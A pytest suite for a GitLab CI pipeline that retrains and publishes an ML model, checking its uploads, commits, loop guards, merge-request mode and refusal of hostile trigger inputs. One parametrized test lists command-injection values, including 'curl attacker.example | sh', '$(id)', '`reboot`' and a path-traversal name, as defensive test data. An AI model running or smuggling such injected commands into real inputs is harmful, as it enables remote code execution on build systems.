"""The GitLab pipeline: its shape, and the retrain-model job run for real by gitlab-ci-local
(shell executor) against a local bare Git remote and a stand-in for GitLab's generic package
registry: what it uploads and commits, its loop guards, its typed inputs, its merge-request
mode, and what a trigger that overrides variables can no longer do."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest
import yaml

from aiops_operator.retrain import RETRAIN_INPUT_PATTERNS, retrain_inputs
from aiops_runtime.train import (
    CALIBRATION_FILE,
    MANIFEST_FILE,
    METRICS_FILE,
    MODEL_FILE,
    REFERENCE_FILE,
    train,
)
from tests.delivery.delivery_helpers import REPO_ROOT, run
from tests.fakes import PackageRegistry, package_registry

PIPELINE = REPO_ROOT / ".gitlab-ci.yml"
ARTIFACT_FILES = (MODEL_FILE, REFERENCE_FILE, METRICS_FILE, MANIFEST_FILE)
MODELSERVICE = "examples/modelservice.yaml"
MODEL_DIR = "examples/models/breast-cancer"
ARTIFACTS = [f"{MODEL_DIR}/{name}" for name in ARTIFACT_FILES]
# The files the job uses; the test repository holds exactly these.
JOB_FILES = [
    ".gitlab-ci.yml", MODELSERVICE,
    ".ci/retrain/bump-modelservice.py", ".ci/retrain/upload-artifacts.py",
    *ARTIFACTS,
]  # fmt: skip
# gitlab-ci-local derives CI_PROJECT_PATH, CI_SERVER_HOST and CI_REGISTRY_IMAGE from origin.
ORIGIN = "https://gitlab.example.com/aiops/aiops-quality.git"
BOT = "aiops-retrain-bot"
PUSH_TOKEN = "glpat-test-push-token"
# The URL the job pushes to: the project's own, with the push token.
PUSH_URL = f"https://oauth2:{PUSH_TOKEN}@gitlab.example.com/aiops/aiops-quality.git"
JOB_TOKEN = "glcbt-test-job-token"
PROJECT_ID = "42"


def git(repo: Path, *args: str) -> str:
    """git in `repo`, as a developer (never the retrain bot)."""
    dev = ["-c", "user.name=Dev", "-c", "user.email=dev@example.com"]
    return run("git", "-C", repo, *dev, *args).stdout.strip()


def pipeline() -> dict[str, Any]:
    """The pipeline definition (the document after the spec:inputs header)."""
    _header, body = yaml.safe_load_all(PIPELINE.read_text())
    return body


def pipeline_inputs() -> dict[str, Any]:
    """The header's spec:inputs."""
    header, _ = yaml.safe_load_all(PIPELINE.read_text())
    return header["spec"]["inputs"]


def test_stages_run_test_then_build_then_retrain() -> None:
    assert pipeline()["stages"] == ["test", "build", "retrain-model"]


def test_images_are_built_from_both_dockerfiles_and_tagged_with_the_commit() -> None:
    ci = pipeline()
    script = " ".join(ci[".kaniko"]["script"])
    assert '--destination "$IMAGE:$CI_COMMIT_SHORT_SHA"' in script
    built = {ci[job]["variables"]["DOCKERFILE"] for job in ("build-runtime", "build-operator")}
    assert built == {"Dockerfile.runtime", "Dockerfile.operator"}
    for dockerfile in built:
        assert (REPO_ROOT / dockerfile).is_file()


def kaniko_destinations(**ci: str) -> list[str]:
    """The --destination arguments the build jobs' script gives kaniko."""
    args = kaniko_args(**ci)
    return [args[i + 1] for i, a in enumerate(args) if a == "--destination"]


def kaniko_args(**ci: str) -> list[str]:
    """The arguments the build jobs' script gives kaniko, as a POSIX shell (the kaniko debug
    image's busybox sh; here dash) expands them for these CI variables."""
    (script,) = pipeline()[".kaniko"]["script"]
    assert script.startswith("/kaniko/executor ")
    # kaniko stands in as a function that prints each argument it gets on a line
    command = script.replace("/kaniko/executor", "executor", 1)
    shell = f'executor() {{ for a in "$@"; do printf "%s\\n" "$a"; done; }}; {command}'
    env = {"PATH": os.environ["PATH"], "IMAGE": "registry.example/x/aiops-quality-runtime", **ci}
    proc = subprocess.run(["sh", "-c", shell], capture_output=True, text=True, env=env,
                          check=True)  # fmt: skip
    return proc.stdout.splitlines()


def test_a_release_tag_pushes_the_version_the_chart_deploys_besides_the_commit_tag() -> None:
    chart = yaml.safe_load((REPO_ROOT / "charts" / "aiops-operator" / "Chart.yaml").read_text())
    version = chart["appVersion"]
    image = "registry.example/x/aiops-quality-runtime"
    branch = kaniko_destinations(CI_COMMIT_SHORT_SHA="abc12345", CI_COMMIT_BRANCH="main")
    assert branch == [f"{image}:abc12345"]
    tagged = kaniko_destinations(CI_COMMIT_SHORT_SHA="abc12345", CI_COMMIT_TAG=f"v{version}")
    assert tagged == [f"{image}:abc12345", f"{image}:{version}"]
    retrain = kaniko_args(CI_COMMIT_SHORT_SHA="abc12345", TARGET="retrain")
    assert retrain[retrain.index("--target") + 1] == "retrain"
    assert "--target" not in kaniko_args(CI_COMMIT_SHORT_SHA="abc12345")
    rules = [r["if"] for r in pipeline()[".kaniko"]["rules"]]
    release = next(r for r in rules if "CI_COMMIT_TAG" in r)
    pattern = release.split("=~ /", 1)[1].rsplit("/", 1)[0]
    assert re.fullmatch(pattern, f"v{version}")


def test_the_operator_sends_exactly_the_inputs_the_pipeline_declares() -> None:
    declared = pipeline_inputs()
    assert set(RETRAIN_INPUT_PATTERNS) == set(declared)
    for name, spec in declared.items():
        # GitLab anchors with ^...$; the operator's pattern is used with fullmatch.
        assert spec["regex"] == f"^{RETRAIN_INPUT_PATTERNS[name].pattern}$", name
        assert re.fullmatch(RETRAIN_INPUT_PATTERNS[name], str(spec["default"])), name
    sent = retrain_inputs("team-a", "breast-cancer", "2026-12-02T04:00:00.123Z", 3.2e-07)
    for name, value in sent.items():
        assert value, name
        assert re.search(declared[name]["regex"], value), (name, value)


def test_retrain_model_takes_no_push_url_author_or_file_from_variables() -> None:
    job = pipeline()["retrain-model"]
    script = "\n".join(job["script"])
    for name in ("RETRAIN_PUSH_URL", "RETRAIN_AUTHOR", "MODELSERVICE_FILE", "MODEL_DIR"):
        assert name not in script
        assert name not in job["variables"]
    assert 'push_url="https://oauth2:${RETRAIN_PUSH_TOKEN}@${CI_SERVER_HOST}/' in script


class CiRepo(NamedTuple):
    work: Path
    remote: Path
    registry: PackageRegistry


@pytest.fixture
def ci_repo(tmp_path: Path) -> Iterator[CiRepo]:
    """A work tree with the job's files, pushed to a bare remote that records the push options
    it receives in push-options.txt, and the project's package registry."""
    remote, work = tmp_path / "remote.git", tmp_path / "work"
    run("git", "init", "-q", "--bare", "-b", "main", remote)
    run("git", "-C", remote, "config", "receive.advertisePushOptions", "true")
    hook = remote / "hooks" / "pre-receive"
    hook.write_text(
        '#!/bin/sh\ni=0\nwhile [ $i -lt "${GIT_PUSH_OPTION_COUNT:-0}" ]; do\n'
        '  eval "echo \\$GIT_PUSH_OPTION_$i" >> "$GIT_DIR/push-options.txt"; i=$((i+1))\n'
        "done\ncat > /dev/null\n"
    )
    hook.chmod(0o755)
    run("git", "init", "-q", "-b", "main", work)
    for name in JOB_FILES:
        (work / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(REPO_ROOT / name, work / name)
    git(work, "add", *JOB_FILES)
    git(work, "commit", "-q", "-m", "runtime: new model code")
    git(work, "remote", "add", "origin", ORIGIN)
    git(work, "push", "-q", str(remote), "main")
    with package_registry(JOB_TOKEN) as registry:
        yield CiRepo(work, remote, registry)


def retrain(
    gitlab_ci_local: Path,
    repo: CiRepo,
    *variables: str,
    inputs: tuple[str, ...] = (),
    check: bool = True,
) -> str:
    """Run the retrain-model stage as a pipeline trigger would; returns its output. Git sends
    the job's push to the project's URL to the local remote instead (url.<remote>.insteadOf):
    the job itself has no way to push elsewhere. GitLab's API is the package registry."""
    work, remote = repo.work, repo.remote
    venv_bin = Path(sys.executable).parent  # aiops-runtime and python3 with the runtime's libs
    env = {
        **os.environ,
        "PATH": f"{venv_bin}{os.pathsep}{os.environ['PATH']}",
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": f"url.{remote}.insteadOf",
        "GIT_CONFIG_VALUE_0": PUSH_URL,
    }
    args = [
        *(
            "--stage",
            "retrain-model",
            "--force-shell-executor",
            "--home",
            str(work.parent / "home"),
        ),
        *("--ignore-predefined-vars", "CI_PIPELINE_SOURCE,CI_COMMIT_AUTHOR"),
        *("--variable", "CI_PIPELINE_SOURCE=trigger"),
        *("--variable", f"RETRAIN_PUSH_TOKEN={PUSH_TOKEN}"),  # a project variable in GitLab
        # what GitLab sets for every job
        *("--variable", f"CI_API_V4_URL={repo.registry.base}/api/v4"),
        *("--variable", f"CI_PROJECT_ID={PROJECT_ID}"),
        *("--variable", f"CI_JOB_TOKEN={JOB_TOKEN}"),
    ]
    for variable in variables:
        args += ["--variable", variable]
    for value in inputs:
        args += ["--input", value]
    proc = run(gitlab_ci_local, *args, cwd=work, env=env, timeout=600, check=check)
    return proc.stdout + proc.stderr


def remote_log(remote: Path, ref: str = "main") -> list[str]:
    """Commit hashes of the remote's `ref`, newest first."""
    return run("git", "-C", remote, "log", "--format=%H", ref).stdout.split()


def remote_branches(remote: Path) -> list[str]:
    """The remote's branch names."""
    out = run("git", "-C", remote, "for-each-ref", "--format=%(refname:short)", "refs/heads")
    return out.stdout.split()


@pytest.mark.integration
def test_retrain_model_pushes_one_commit_with_the_new_digest(
    gitlab_ci_local: Path, ci_repo: CiRepo, tmp_path: Path
) -> None:
    remote, registry = ci_repo.remote, ci_repo.registry
    before = remote_log(remote)
    out = retrain(gitlab_ci_local, ci_repo, "RETRAIN_SEED=7")
    assert "PASS  retrain-model" in out, out
    after = remote_log(remote)
    assert after[1:] == before, "the remote should receive exactly one new commit"
    new = after[0]
    assert run("git", "-C", remote, "log", "-1", "--format=%an", new).stdout.strip() == BOT
    assert "[skip ci]" in run("git", "-C", remote, "log", "-1", "--format=%s", new).stdout
    changed = run("git", "-C", remote, "diff", "--name-only", f"{new}~1", new).stdout.split()
    assert changed == [MODELSERVICE], "the new digests and where the files are, nothing else"
    pushed = yaml.safe_load(run("git", "-C", remote, "show", f"{new}:{MODELSERVICE}").stdout)
    expected = train(tmp_path / "seed7", seed=7, force=True).manifest
    committed = yaml.safe_load((REPO_ROOT / MODELSERVICE).read_text())
    model = pushed["spec"]["model"]
    assert model["sha256"] == expected["model"]["sha256"]
    assert model["sha256"] != committed["spec"]["model"]["sha256"]
    assert model["reference"]["sha256"] == expected["reference"]["sha256"]
    # The files went to the project's generic package <namespace>-<name>/<sha12>, and the
    # ModelService downloads them from there: the bytes behind each URI have the pinned digest.
    package = (f"{registry.base}/api/v4/projects/{PROJECT_ID}/packages/generic/"
               f"aiops-quality-breast-cancer/{model['sha256'][:12]}")  # fmt: skip
    assert model["uri"] == f"{package}/{MODEL_FILE}"
    assert model["reference"]["uri"] == f"{package}/{REFERENCE_FILE}"
    stored = {registry.base + path: data for path, data in registry.stored().items()}
    uploaded = (MODEL_FILE, REFERENCE_FILE, CALIBRATION_FILE, MANIFEST_FILE)
    assert set(stored) == {f"{package}/{n}" for n in uploaded}
    assert model["calibration"]["uri"] == f"{package}/{CALIBRATION_FILE}"
    assert (
        hashlib.sha256(stored[model["calibration"]["uri"]]).hexdigest()
        == (model["calibration"]["sha256"])
    )
    assert hashlib.sha256(stored[model["uri"]]).hexdigest() == model["sha256"]
    assert (
        hashlib.sha256(stored[model["reference"]["uri"]]).hexdigest()
        == (model["reference"]["sha256"])
    )
    assert json.loads(stored[f"{package}/{MANIFEST_FILE}"])["seed"] == 7
    assert pushed["spec"]["image"].endswith(f"/aiops-quality-runtime:{before[0][:8]}")
    assert JOB_TOKEN not in out.replace(f"CI_JOB_TOKEN={JOB_TOKEN}", "")


@pytest.mark.integration
def test_a_refused_upload_fails_the_job_before_anything_is_committed(
    gitlab_ci_local: Path, ci_repo: CiRepo
) -> None:
    remote, registry = ci_repo.remote, ci_repo.registry
    registry.token = "another-token"  # the registry does not accept this job's token
    before = remote_log(remote)
    out = retrain(gitlab_ci_local, ci_repo, "RETRAIN_SEED=7", check=False)
    assert "FAIL  retrain-model" in out, out
    assert "401" in out
    assert registry.refused, "the upload was attempted"
    assert remote_log(remote) == before


@pytest.mark.integration
def test_retrain_model_does_not_run_again_on_its_own_commit(
    gitlab_ci_local: Path, ci_repo: CiRepo
) -> None:
    work, remote = ci_repo.work, ci_repo.remote
    retrain(gitlab_ci_local, ci_repo, "RETRAIN_SEED=7")
    after_first = remote_log(remote)
    # What GitLab would set for the bot's commit (gitlab-ci-local does not set CI_COMMIT_AUTHOR):
    # the job's rules exclude it.
    author = run("git", "-C", work, "log", "-1", "--format=%an <%ae>").stdout.strip()
    out = retrain(gitlab_ci_local, ci_repo, "RETRAIN_SEED=8", f"CI_COMMIT_AUTHOR={author}")
    assert "retrain-model" not in out
    # Without that variable the job starts, and its own check of HEAD's author stops it.
    out = retrain(gitlab_ci_local, ci_repo, "RETRAIN_SEED=8")
    assert f"HEAD is a commit of {BOT}; not retraining on it" in out
    # The guard's name is not a variable: a trigger cannot rename the bot to get past it.
    out = retrain(gitlab_ci_local, ci_repo, "RETRAIN_SEED=8", "RETRAIN_AUTHOR_NAME=Dev")
    assert f"HEAD is a commit of {BOT}; not retraining on it" in out
    assert remote_log(remote) == after_first


@pytest.mark.integration
def test_retrain_with_unchanged_artifacts_and_image_commits_nothing(
    gitlab_ci_local: Path, ci_repo: CiRepo
) -> None:
    work, remote = ci_repo.work, ci_repo.remote
    committed = yaml.safe_load((work / MODELSERVICE).read_text())
    repository, tag = committed["spec"]["image"].rsplit(":", 1)
    same_image = (f"RUNTIME_IMAGE={repository}", f"CI_COMMIT_SHORT_SHA={tag}")
    # The first retrain commits only if this machine's BLAS gives other bytes than the shipped
    # ones; either way the remote then holds what this machine trains with seed 42.
    retrain(gitlab_ci_local, ci_repo, "RETRAIN_SEED=42", *same_image)
    git(work, "fetch", "-q", str(remote), "main")
    git(work, "reset", "-q", "--hard", "FETCH_HEAD")
    git(work, "commit", "-q", "--allow-empty", "-m", "docs: a developer's commit on top")
    git(work, "push", "-q", str(remote), "main")
    before = remote_log(remote)
    out = retrain(gitlab_ci_local, ci_repo, "RETRAIN_SEED=42", *same_image)
    assert "already points at these artifacts; nothing to commit" in out
    assert remote_log(remote) == before


@pytest.mark.integration
def test_a_trigger_overriding_the_old_variables_still_pushes_only_the_named_modelservice(
    gitlab_ci_local: Path, ci_repo: CiRepo, tmp_path: Path
) -> None:
    """The variables retrain-model used to take its push URL, bot name and files from, set as
    a hostile trigger would: none of them has any effect any more."""
    work, remote = ci_repo.work, ci_repo.remote
    elsewhere = tmp_path / "attacker.git"
    run("git", "init", "-q", "--bare", "-b", "main", elsewhere)
    (work / "examples" / "decoy.yaml").write_text("kind: ConfigMap\n")
    git(work, "add", "examples/decoy.yaml")
    git(work, "commit", "-q", "-m", "docs: another file")
    git(work, "push", "-q", str(remote), "main")
    before = remote_log(remote)
    out = retrain(
        gitlab_ci_local, ci_repo, "RETRAIN_SEED=7",
        f"RETRAIN_PUSH_URL={elsewhere}", "RETRAIN_AUTHOR_NAME=Mallory",
        "MODELSERVICE_FILE=examples/decoy.yaml", "MODEL_DIR=examples",
        inputs=("modelservice=breast-cancer", "namespace=aiops-quality"),
    )  # fmt: skip
    assert "PASS  retrain-model" in out, out
    assert run("git", "-C", elsewhere, "for-each-ref").stdout == "", "nothing reached elsewhere"
    new = remote_log(remote)[0]
    assert remote_log(remote)[1:] == before
    assert run("git", "-C", remote, "log", "-1", "--format=%an", new).stdout.strip() == BOT
    changed = run("git", "-C", remote, "diff", "--name-only", f"{new}~1", new).stdout.split()
    assert MODELSERVICE in changed
    assert changed == [MODELSERVICE]
    assert PUSH_TOKEN not in out.replace(f"RETRAIN_PUSH_TOKEN={PUSH_TOKEN}", "")


@pytest.mark.integration
@pytest.mark.parametrize(
    "hostile",
    [
        "modelservice=../../charts",
        "modelservice=x; curl attacker.example | sh",
        "namespace=$(id)",
        "drift_time=now`reboot`",
        "drift_p_value=0.01 && true",
    ],
)
def test_inputs_outside_their_patterns_are_refused_before_any_job_runs(
    gitlab_ci_local: Path, ci_repo: CiRepo, hostile: str
) -> None:
    remote = ci_repo.remote
    before = remote_log(remote)
    out = retrain(gitlab_ci_local, ci_repo, inputs=(hostile,), check=False)
    assert "does not match required regex" in out, out
    assert "PASS  retrain-model" not in out
    assert remote_log(remote) == before


@pytest.mark.integration
def test_a_modelservice_not_in_the_repository_is_refused_without_a_commit(
    gitlab_ci_local: Path, ci_repo: CiRepo
) -> None:
    """Another team's drift cannot bump the example: the job bumps only what the trigger names."""
    remote = ci_repo.remote
    before = remote_log(remote)
    out = retrain(
        gitlab_ci_local, ci_repo, "RETRAIN_SEED=7",
        inputs=("modelservice=breast-cancer", "namespace=team-b"), check=False,
    )  # fmt: skip
    assert "no ModelService team-b/breast-cancer in examples/modelservice*.yaml" in out, out
    assert "FAIL  retrain-model" in out
    assert remote_log(remote) == before


@pytest.mark.integration
def test_merge_request_mode_pushes_a_retrain_branch_and_asks_for_a_merge_request(
    gitlab_ci_local: Path, ci_repo: CiRepo
) -> None:
    remote = ci_repo.remote
    before = remote_log(remote)
    out = retrain(
        gitlab_ci_local, ci_repo, "RETRAIN_SEED=7", "RETRAIN_MERGE_REQUEST=true",
        inputs=("modelservice=breast-cancer", "namespace=aiops-quality"),
    )  # fmt: skip
    assert "PASS  retrain-model" in out, out
    assert remote_log(remote) == before, "the default branch is not pushed to"
    (branch,) = [b for b in remote_branches(remote) if b != "main"]
    assert re.fullmatch(r"retrain/aiops-quality-breast-cancer-[0-9a-f]{12}", branch)
    assert remote_log(remote, branch)[1:] == before
    options = (remote / "push-options.txt").read_text().split()
    assert options == [
        "merge_request.create",
        "merge_request.target=main",
        "merge_request.remove_source_branch",
    ]
